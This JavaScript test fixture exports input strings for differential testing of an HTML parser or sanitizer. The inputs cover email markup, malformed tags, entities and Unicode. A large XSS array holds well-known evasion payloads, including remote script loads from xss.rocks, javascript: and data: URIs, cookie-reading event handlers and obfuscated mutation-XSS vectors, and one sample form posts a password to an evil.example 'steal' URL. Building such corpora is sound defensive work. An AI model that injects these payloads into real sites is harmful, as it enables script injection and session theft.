// Hand-written inputs for the differential corpus: real-world email markup, malformed markup, entities,
// XSS vectors and Unicode. Each entry is one input string.
const EMAIL_1 = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<meta http-equiv="X-UA-Compatible" content="IE=edge">
<title>Your receipt &amp; invoice</title>
<style type="text/css">
  body { margin:0; padding:0; -webkit-text-size-adjust:100%; }
  table, td { border-collapse:collapse; mso-table-lspace:0pt; mso-table-rspace:0pt; }
  img { border:0; height:auto; line-height:100%; outline:none; text-decoration:none; }
  @media only screen and (max-width:480px) { .mj-column-per-100 { width:100% !important; max-width:100%; } }
  a[x-apple-data-detectors] { color: inherit !important; }
  .x > .y { content: "<b>&amp;</b>"; }
</style>
<!--[if mso]><style type="text/css">.fallback-font { font-family: Arial, sans-serif; }</style><![endif]-->
</head>
<body style="word-spacing:normal;background-color:#F4F4F4;" bgcolor="#F4F4F4">
<div style="display:none;font-size:1px;color:#ffffff;line-height:1px;max-height:0px;max-width:0px;opacity:0;overflow:hidden;">Preview text here &zwnj;&nbsp;&zwnj;&nbsp;</div>
<table align="center" border="0" cellpadding="0" cellspacing="0" role="presentation" style="width:100%;" width="100%">
  <tbody>
    <tr>
      <td align="center" valign="top" style="padding:20px 0;">
        <a href="https://example.com/?utm_source=email&utm_medium=receipt&amp;utm_campaign=x" target="_blank" rel="noopener noreferrer"><img src="https://cdn.example.com/logo.png" width="120" height="40" alt="Example Inc." style="display:block;border:0;" border="0" onload="track()"></a>
      </td>
    </tr>
    <tr>
      <td class="content" style="font-family:Helvetica,Arial,sans-serif;font-size:16px;line-height:24px;color:#333333;">
        <h1 style="margin:0 0 16px;">Thanks for your order, Ada!</h1>
        <p>Order <strong>#10023</strong> &mdash; placed on 1&nbsp;Jan&nbsp;2024.</p>
        <table width="100%" cellpadding="4">
          <tr><th align="left">Item</th><th align="right">Price</th></tr>
          <tr><td>Widget &times; 2</td><td align="right">&euro;19.99</td></tr>
          <tr><td>Gadget</td><td align="right">&pound;5</td></tr>
          <tr><td colspan="2" align="right"><b>Total: &euro;44.98</b></td></tr>
        </table>
        <p style="text-align:center"><a href="https://example.com/orders/10023" style="background:#0066ff;color:#fff;padding:12px 24px;border-radius:4px;text-decoration:none;display:inline-block">View order</a></p>
        <p>Questions? <a href="mailto:support@example.com?subject=Order%2010023">Email us</a> or call <a href="tel:+15555550100">+1 555 555 0100</a>.</p>
      </td>
    </tr>
    <tr><td style="font-size:12px;color:#999">You received this email because you signed up at example.com. <a href="https://example.com/unsubscribe?u=abc&amp;l=def">Unsubscribe</a><br>&copy; 2024 Example Inc., 1 Main St, Springfield</td></tr>
  </tbody>
</table>
<!--[if mso]></td></tr></table><![endif]-->
</body>
</html>`;

const EMAIL_2 = `<html><head><meta charset="utf-8"><link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Roboto:400,700"><style>@import url(https://fonts.googleapis.com/css?family=Roboto);</style></head>
<body><center><table class="wrapper" width="600"><tr><td class="header"><img src="cid:logo@example" alt=""></td></tr>
<tr><td><p>Hi {{name}},</p><ul><li>First item<li>Second item<li>Third</ul><ol start="3"><li>three</li><li>four</ol>
<p>Your code is <code>ABC-123</code>.<p>Second paragraph without close
<blockquote cite="https://example.com/quote">Quote</blockquote><pre>  pre
  formatted &lt;text&gt;</pre><hr><dl><dt>Term<dd>Definition<dt>Term 2<dd>Def 2</dl>
<font face="Arial" color="red" size="2">Font tag text</font><center>centered</center>
<button onclick="x()">Click</button><form action="https://evil.example/steal"><input name="pw" type="password"><select><option value="1">One<option value="2" selected>Two</select><textarea>secret text</textarea></form>
</td></tr></table></center></body></html>`;

const EMAIL_3 = `<div dir="ltr"><div>Hello,</div><div><br></div><div>Please see the attached <a href="https://drive.google.com/file/d/xyz/view?usp=sharing" target="_blank">document</a>.</div><div><br clear="all"><div><br></div>-- <br><div dir="ltr" class="gmail_signature" data-smartmail="gmail_signature"><div dir="ltr"><span style="color:rgb(136,136,136)">Ada Lovelace</span><div><span style="color:rgb(136,136,136)">Analyst &middot; Engines Ltd.</span></div></div></div></div></div>
<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, Jan 1, 2024 at 9:00 AM Bob &lt;<a href="mailto:bob@example.com">bob@example.com</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Original message</blockquote></div>`;

const EMAIL_4 = `<table role="presentation" cellspacing="0" cellpadding="0" border="0" width="100%" style="margin: auto;">
<tr><td background="https://example.com/bg.jpg" bgcolor="#222222" valign="middle" style="text-align: center; background-position: center center !important; background-size: cover !important;">
<!--[if gte mso 9]><v:rect xmlns:v="urn:schemas-microsoft-com:vml" fill="true" stroke="false" style="width:600px;height:175px; background-position: center center !important;"><v:fill type="tile" src="https://example.com/bg.jpg" color="#222222" /><v:textbox inset="0,0,0,0"><![endif]-->
<div><table role="presentation" border="0" cellpadding="0" cellspacing="0" width="100%"><tr><td valign="middle" style="text-align: center; padding: 40px 20px; font-family: sans-serif; font-size: 15px; line-height: 20px; color: #ffffff;"><p style="margin: 0;">Maecenas sed ante pellentesque, posuere leo id, eleifend dolor.</p></td></tr></table></div>
<!--[if gte mso 9]></v:textbox></v:rect><![endif]--></td></tr>
<tr><td><img src="data:image/png;base64,iVBORw0KGgo=" width="10" height="10" alt="pixel"><img src="https://example.com/p.gif" width="1" height="1" style="display:none" alt=""><img srcset="https://example.com/a.png 1x, https://example.com/a@2x.png 2x" sizes="(max-width: 600px) 480px, 800px" loading="lazy" crossorigin="anonymous" decoding="async" fetchpriority="high"></td></tr></table>`;

const SIMPLE = [
  '', ' ', 'plain text', 'Hello, Ada!', 'A & B < C', 'a > b', '5 > 3 && 2 < 4', 'Tom & Jerry', 'AT&T', 'R&D;',
  '<p>Hi</p>', '<p onclick="x()" style="color:red" class="c">Hi</p><script>alert(1)</script>',
  '<IMG SRC="a.png" ONERROR="x" Alt="A" data-foo="1">', '<a href="javascript:alert(1)">j</a>', '</br/>',
  '<iframe src="https://evil.example"></iframe>', '<p>unclosed <b>bold', '<h1>Hello {{payload.name}}</h1>',
  "<h1>Hello Ada</h1><p>Your plan: <b>free</b></p><script>alert('xss')</script><a href=\"https://example.com\" onclick=\"steal()\">Docs</a>",
  '<!DOCTYPE html><html><head><style>p{color:red}</style></head><body><p style="x" onmouseover="y()">Hi Ada</p><img src="a.png" onerror="z()" data-x="1" alt="a"><iframe src="https://evil"></iframe><br/></body></html>',
  '<b>Hi</b> Ada', 'Hi <img src=x onerror=alert(1)><script>x()</script>',
  'apple, pear, and plum | apple & 2 fruits | 2 mice | boxen | apple / pear and 1 other<p>Total events: 3</p>',
  '<p>Items: apple and pear</p><p>Total events: 3</p>',
  '<div><p>a<p>b</div>', '<ul><li>a<li>b</ul>', '<table><tr><td>a<td>b<tr><td>c</table>', '<table><thead><tr><th>h<tbody><tr><td>d<tfoot><tr><td>f</table>',
  '<dl><dt>a<dd>b<dt>c</dl>', '<ruby>漢<rp>(</rp><rt>kan<rt>ji</ruby>', '<select><option>a<option>b<optgroup><option>c</select>after',
  '<h1>a<h2>b</h2>', '<p>a<h1>b</h1>c', '<p>a<div>b</div>c', '<p>a<table>b</table>', '<b><i>x</b></i>', '<b><p>x</b>y</p>',
  '</p>', '</div>', '</b>', '</br>', '</br >', '</BR>', '<br/>', '<br />', '<br>', '<BR>', '<hr/>', '<hr>', '<wbr>', '<col>', '<col/>',
  '<img>', '<img/>', '<img src="x">', '<img src=x />', '<img src=x/>', '<img alt>', '<img alt="">', '<img alt=\'\'>', '<img title="">',
  '<link rel="stylesheet" href="x.css">', '<meta charset="utf-8">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">', '<input value="x">', '<embed src="x.swf">', '<object data="x.swf"></object>', '<param name="x">',
  '<area href="javascript:x">', '<source src="x">', '<track src="x">', '<keygen>', '<isindex>', '<frame src="x">', '<command>', '<basefont>',
  '<p>a</p >', '<p>a</p foo>', '<p>a</p\n>', '<p>a</ p>', '</ p>', '</>', 'a</>b', '<>', '< p>', '<1p>', '<p1>x</p1>', '<p:x>y</p:x>', '<my-element>y</my-element>',
  '<p/>x', '<div/>x', '<span/>x</span>', '<b/>x', '<a/>x', '<p / >x', '<p a=b/>x', '<p a="b"/>x', "<p a='b'/>x",
  '<svg><p/>x</svg>', '<svg><circle r="1"/><p>x</p></svg>', '<math><mi/>x</math>', '<svg><title/>x</svg>', '<svg><desc>d</desc><b/>x</svg>', '</svg><p/>x', '<svg></svg><p/>x', '<svg><foreignObject><p/>x</foreignObject></svg>', '<math><mtext><b/>x</mtext></math>',
  '<!-- comment -->text', '<!---->x', '<!-->x', '<!--->x', '<!-- a -- b -->x', '<!-- --->x', '<!-- -- ->x-->y', '<!--x', '<!-', '<!', '<!x>y', '<!doctype html>x', '<!DOCTYPE html>x', '<!DOCTYPE>x', '<!DOCTYPE\nhtml>x', ' <!DOCTYPE html>x', '<!DOCTYPE html SYSTEM "about:legacy-compat">x', '<!DOCTYPE <script>alert(1)</script>x',
  '<![CDATA[ <b>x</b> ]]>y', '<![CDATA[x', '<![CD', '<![cdata[x]]>y', '<?xml version="1.0"?>x', '<?php echo 1; ?>x', '<?x', '<!ELEMENT x>y',
  '<script>alert(1)</script>', '<SCRIPT>alert(1)</SCRIPT>', '<script src="x.js"></script>after', '<script>a</script >b', '<script>a</scriptx>b</script>c', '<script>a<!--</script>-->b', '<script>a</script\n>b', '<script/>x</script>y', '<script', '<script>', '<script>unterminated',
  '<style>p{color:red}</style>', '<style>a > b { x: "<" }</style>', '<style><!-- p{} --></style>', '<style>a</style >b', '<style>a</STYLE>b', '<style>a</stylex>b</style>c', '<style>a', '<style/>x', '<style/>&lt;b&gt;', '<STYLE>x</style>', '<style media="screen" onload="x()">a{}</style>',
  '<title>a &amp; b <b>c</b></title>', '<title>x</title/>', '<title>a</titlex>b</title>', '<title>x', '<textarea><b>x</b></textarea>y', '<textarea>x', '<xmp><b>x</b></xmp>y', '<noscript><p>x</p></noscript>', '<noembed>x</noembed>', '<noframes>x</noframes>', '<plaintext><b>x',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>', '<option><b>x</b></option>y', '<select><option>a</select>b',
  '<div title="a"b">x</div>', '<div title=a"b>x</div>', "<div title='a\"b'>x</div>", '<div title="a\'b">x</div>', '<div a=1 a=2 A=3>x</div>', '<div class="">x</div>', '<div class>x</div>', '<div hidden>x</div>', '<td nowrap>x</td>', '<div data-x="">x</div>', '<div data-x>x</div>', '<div id="">x</div>', '<div 2=a b=c 1=d 01=e>x</div>', '<div __proto__=x constructor=y>z</div>', '<div =x ==y a=b=c>z</div>', '<div a="1"b="2">x</div>', '<div a = "1" b = 2>x</div>', '<div a=\n"1">x</div>', '<div\ta=1\nb=2\rc=3\fd=4>x</div>', '<div a=`x`>y</div>', '<div "onclick"=x>y</div>', "<div 'x'=y>z</div>", '<div a<b=c>x</div>', '<div a/b=c>x</div>', '<div x="&quot;&lt;&gt;&amp;">y</div>', '<div x="&#34;">y</div>',
  '<p title="&paralx">&paralx</p>', '<p title="&notinx &notin- &not-">x</p>', '<a href="?a=1&amp;b=2&c=3&copy=4&lang=en&reg">x</a>', '<a href="?x=1&ltd=2">x</a>',
  '&amp;', '&amp', '&AMP;', '&Amp;', '&lt;&gt;&quot;&apos;', '&nbsp;', '&nbsp', '&NotNestedGreaterGreater;', '&zwnj;&zwj;', '&hearts;&hearts', '&notin;&notit;&not', '&#65;&#x41;&#X41;&#65&#x41', '&#0;&#x0;&#128;&#x80;&#x9F;&#xD800;&#xDFFF;&#x10FFFF;&#x110000;&#99999999999;', '&#;&#x;&#xg;&#a;', '&#', '&#x', '&', 'a&', '&;', '& ', '&&amp;', '&amp;amp;', '&lt;script&gt;alert(1)&lt;/script&gt;', '&bogus;', '&ampx', '&amp-', '&copy2024', '&frac12;&frac12', '&Aacute;&aacute', '&fjlig;', '&ThickSpace;',
  '<p>&#128512; &#x1F600; 😀 👍🏽 🇺🇸</p>', 'Ünïcödé ñ 日本語 العربية עברית', '<p dir="rtl">مرحبا</p>', '\u0000', 'a\u0000b<p>\u0000</p>', '<p title="\u0000">x</p>', '\ufeffBOM', 'line1\r\nline2\rline3', '<p>\u2028\u2029</p>', 'x</a foo\u00e9', 'x</a foo😀',
  '<p>a</p foo', '<p>x</p', '<p', '<p ', '<p a', '<p a=', '<p a="', '<p a="x', '<p a=x', '<p a="x"', '<p a="x"/', '</p', '</', '</ ', '</a foo', '</1abc', '<s', '<sc', '<scr', '<t', '<ti', '<x', 'x<', '< ', '<<', '<<p>>', '<<<', '<p<p>>', 'a<b', 'a <b', 'a<1', 'a < b > c',
  '<div><div><div><span>deep</span></div></div></div>', '<a href="https://example.com" target="_blank" rel="noopener">link</a>', '<a href="/relative/path">r</a>', '<a href="//cdn.example.com/x">pr</a>', '<a href="\\\\evil.com">bs</a>', '<a href="#anchor">a</a>', '<a href="?q=1">q</a>', '<a href="ftp://x">f</a>', '<a href="mailto:a@b.c">m</a>', '<a href="tel:123">t</a>', '<a href="sms:123">s</a>', '<a href="HTTPS://EXAMPLE.COM">u</a>', '<a href="data:text/html,<script>alert(1)</script>">d</a>', '<a href="vbscript:msgbox(1)">v</a>', '<a href="file:///etc/passwd">f</a>', '<a href="x:y">x</a>', '<a href="a.b:c">x</a>', '<a href="1ab:c">x</a>', '<a href=":x">x</a>', '<a href="">e</a>', '<a href>e</a>', '<a name="x">n</a>',
  '<img src="https://x/a.png" width="100" height="50" loading="lazy" class="c" id="i" style="s" title="t" dir="ltr" lang="en" usemap="#m" ismap border="0" align="left" hspace="5" data-src="y" onload="z">',
  '<img srcset="a.png 1x, javascript:x 2x, b.png 100w 50h, c.png 0x, d.png 1e999x">', '<img srcset="">', '<img srcset="   ">', '<img srcset="javascript:x">', '<img srcset="a.png 1q, b.png">', '<img srcset="a,,, b (x y), c 1.50x">', '<img srcset="a 1x 2x, b 100w 100w, c 10h, d 0w, e -1x, f 1.x, g .5x, h 007w">', '<img srcset="a 99999999999999999999999w">', '<link rel="preload" as="image" imagesrcset="a.png 1x, data:x 2x" imagesizes="100vw" href="a.png">', '<div srcset="javascript:x 1x">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>', '<div style="width: expression(alert(1))">x</div>', '<p style="">x</p>', '<p style>x</p>',
  '<body background="javascript:x" onload="y">b</body>', '<table background="javascript:x"><tr><td background="http://ok/x.png">c</td></tr></table>', '<blockquote cite="javascript:x">q</blockquote>', '<q cite="https://ok">q</q>', '<div data="javascript:x" xlink:href="javascript:y" poster="javascript:z" ping="javascript:p" longdesc="javascript:l" codebase="javascript:c" classid="javascript:c" archive="javascript:a" profile="javascript:p" manifest="javascript:m" itemid="javascript:i" dynsrc="javascript:d" lowsrc="javascript:l" action="javascript:a" formaction="javascript:f">x</div>', '<html manifest="javascript:x"><head profile="javascript:y"></head></html>',
];

const XSS = [
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>', 'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"`/+/onmouseover=1/+/[*/[]/+alert(42);//\'>',
  '<IMG SRC="javascript:alert(\'XSS\');">', '<IMG SRC=javascript:alert(\'XSS\')>', '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>', '<a onmouseover="alert(document.cookie)">xxs link</a>', '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>', '<IMG SRC=# onmouseover="alert(\'xxs\')">', '<IMG SRC= onmouseover="alert(\'xxs\')">', '<IMG onmouseover="alert(\'xxs\')">', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>', '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">', '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">', '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">', '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>', '<SCRIPT SRC=http://xss.rocks/xss.js?< B >', '<SCRIPT SRC=//xss.rocks/.j>', '<IMG SRC="`<javascript:alert>`(\'XSS\')"', '<iframe src=http://xss.rocks/scriptlet.html <', '\\";alert(\'XSS\');//', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>', '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">', '<BODY BACKGROUND="javascript:alert(\'XSS\')">', '<IMG DYNSRC="javascript:alert(\'XSS\')">', '<IMG LOWSRC="javascript:alert(\'XSS\')">', '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>', '<IMG SRC=\'vbscript:msgbox("XSS")\'>', '<svg/onload=alert(\'XSS\')>', '<BODY ONLOAD=alert(\'XSS\')>', '<BGSOUND SRC="javascript:alert(\'XSS\');">', '<BR SIZE="&{alert(\'XSS\')}">', '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">', '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">', '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>', '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">', '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>', '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>', '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">', '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>', '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>', '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>', '<XSS STYLE="behavior: url(xss.htc);">', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">', '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>', '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>', '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>', '<TABLE BACKGROUND="javascript:alert(\'XSS\')">', '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">', '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">', '<DIV STYLE="width: expression(alert(\'XSS\'));">', '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->', '<BASE HREF="javascript:alert(\'XSS\');//">', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>', '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>', '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>', '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>', '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>', '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>', '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>', '<SCRIPT a=">" \'\' SRC="httx://xss.rocks/xss.js"></SCRIPT>', '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>', '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>', '<SCRIPT a=">\'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>', '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>', '<A HREF="http://66.102.7.147/">XSS</A>', '<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>', '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>', '<A HREF="http://www.google.com/ogle.com/">XSS</A>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<scr<script>ipt>alert(1)</script>', '<<script>script>alert(1)<</script>/script>', '<svg><script>alert(1)</script></svg>', '<svg><script/>alert(1)</svg>', '<math><script>alert(1)</script></math>', '</textarea><script>alert(1)</script>', '<textarea></textarea><script>alert(1)</script>', '<title></title><script>alert(1)</script>', '</title><script>alert(1)</script>', '<div title="\\"><script>alert(1)</script>">x</div>', '<a href="x"><script>alert(1)</script>">y</a>', '<img src="x" alt="\\"><script>alert(1)</script>">', '<a title=\'"><script>alert(1)</script>\'>x</a>', '<!--<script>alert(1)</script>-->', '<!-- --><script>alert(1)</script><!-- -->', '<!--><script>alert(1)</script>-->', '<!-- <img src=x onerror=alert(1)> -->', '<![CDATA[<script>alert(1)</script>]]>', '<style></style><script>alert(1)</script>', '<style><script>alert(1)</script></style>', '<style>x</style ><img src=x onerror=alert(1)>', '<style/>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;', '<style></style/><script>alert(1)</script></style>', '<style>\u001c/style><img src=x onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>', '<a href="java&Tab;script:alert(1)">x</a>', '<a href="java&NewLine;script:alert(1)">x</a>', '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)">x</a>', '<a href="&#0000106avascript:alert(1)">x</a>', '<a href="javascript&#58alert(1)">x</a>', '<a href="  javascript:alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="java\u0000script:alert(1)">x</a>', '<a href="jav<!-- x -->ascript:alert(1)">x</a>', '<a href="JAVASCRIPT:alert(1)">x</a>', '<a href=javascript:alert(1)>x</a>', '<a href=\'javascript:alert(1)\'>x</a>', '<a HREF="javascript:alert(1)" href="https://ok">x</a>', '<a href="https://ok" HREF="javascript:alert(1)">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a href="DaTa:text/html,x">x</a>', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<a href="&#x2F;&#x2F;evil.com">x</a>', '<a href="/\\evil.com">x</a>',
  '<div onclick=alert(1)>x</div>', '<div ONCLICK=alert(1)>x</div>', '<div OnClIcK=alert(1)>x</div>', '<div on=1 onx=2 o=3 no=4>x</div>', '<div\nonclick=alert(1)>x</div>', '<div/onclick=alert(1)>x</div>', '<div onclick\n=\nalert(1)>x</div>', '<div x onclick=alert(1)>x</div>', '<div x=y/onclick=alert(1)>x</div>', '<div x="y"onclick=alert(1)>x</div>', '<div formaction=javascript:x>y</div>', '<details open ontoggle=alert(1)>x</details>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<body onpageshow=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<isindex action=javascript:alert(1) type=image>', '<input onfocus=alert(1) autofocus>', '<keygen autofocus onfocus=alert(1)>', '<object data="javascript:alert(1)">', '<embed src="javascript:alert(1)">', '<applet code="x">', '<frameset onload=alert(1)>', '<xss id=x tabindex=1 onfocus=alert(1)></xss>', '<a id=x tabindex=1 onbeforedeactivate=alert(1)></a>', '<a href="#" onclick="alert(1)" on\u00e9=1>x</a>',
];

const EDGES = [
  // Names lower-cased the JavaScript way (Unicode-aware), attribute-name edge cases.
  '<mar\u212A>k</mar\u212A>', '<D\u0130V>x</d\u0130v>', '<p \u017Frc=x>y</p>', '<p \u00C9=1 \u00E9=2>x</p>', '<p T\u0130TLE=x>y</p>', '<sp\u00C5n>x</sp\u00E5n>', '<\u00E9>x', '<p \u03A3\u03A3=x>y</p>',
  // Many attributes, duplicated beyond the small-list threshold.
  '<div ' + Array.from({ length: 40 }, (_, i) => `a${i % 25}="${i}"`).join(' ') + ' onclick=x 7=y 3=z>x</div>',
  '<img ' + Array.from({ length: 30 }, (_, i) => (i % 2 ? `src="s${i}"` : `alt="a${i}"`)).join(' ') + '>',
  // The wrapper's closing-tag fix with JavaScript whitespace.
  '</p\u00a0/>x', '</p\u2028/>x', '</p\u3000 />x', '</p\ufeff/>x', '</p\u200b/>x', '</p/ x>y', '</ p/>x', '</1/>x', '</p1/>x', '</p-1/>x', '</p/', '</p/<b>x</b>', '</p/</b>x>', '<b>x</b/>y', '<b>x</b / >y', '</B/>x', '</br/></br/>', '</br/x></br/y>', '</a/>'.repeat(20),
  // Doctype variants.
  '<!DOCTYPE a\u2028b>x', '<!DOCTYPE a\rb>x', '<!DOCTYPE html>\n<html><body>x</body></html>', '<!DOCTYPE html><!DOCTYPE html>x', '<!DOCTYPE x</br/>>y',
  // Title / raw text sequences.
  '<title></&amp;</title>', '<title></title&amp;x</title>', '<title>&lt;/title&gt;</title>', '<title>a</title\tb>c', '<style>a</style\tb>c', '<textarea>a</textarea\nb>c', '<script>a</script/b>c', '<xmp>a</xmp b>c', '<style><</style>', '<style><</</style>', '<style></</style>x', '<title><</title>x',
  // Implied closes across nesting levels.
  '<table><tr><td>a<tr><td>b</table>', '<tr><td>x', '<td>a<td>b', '<th>a<td>b', '<thead><tr><td>a<tbody><tr><td>b', '<body><head>x</head></body>', '<link><body>x', '<input><select>', '<button><p>x</button>', '<option><optgroup>x', '<rt>a<rp>b<rt>c', '<dd>a<dt>b', '<li>a<ul><li>b</ul>c<li>d',
  '<div>'.repeat(50) + 'x' + '</span>'.repeat(50) + '</div>'.repeat(50),
  '<b>x<b', '<i>x<b', '<option>x<b', '<b><option>x<i', '<p>x<div', '<script>a<b', '<style>a<b',
];

// Inputs on which entities 7.0.1 (inside htmlparser2) misreads its own trie; the WHATWG table is used here.
const ENTITY_ANOMALIES = ['a&eta=b', '&Ocy x', '&Psi-y', '<p title="&Gdot ">&Gdot </p>', '&Omega-x', 'x&ohm-y', '&beta8', '&Xi#', '&zeta:'];

module.exports = [EMAIL_1, EMAIL_2, EMAIL_3, EMAIL_4, ...SIMPLE, ...XSS, ...EDGES, ...ENTITY_ANOMALIES];
module.exports.ENTITY_ANOMALIES = ENTITY_ANOMALIES;
